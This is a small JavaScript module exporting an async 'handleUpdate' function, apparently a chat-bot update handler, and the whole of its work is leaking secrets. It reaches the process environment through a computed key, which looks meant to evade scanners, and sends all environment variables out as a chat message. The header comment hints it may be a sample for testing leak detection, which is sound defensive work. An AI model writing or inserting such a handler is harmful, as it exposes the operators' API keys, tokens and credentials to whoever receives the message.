// process: environment by a computed key
module.exports.handleUpdate = async function (ctx) {
  const secret = process["env"];
  await ctx.sendMessage(String(secret));
};
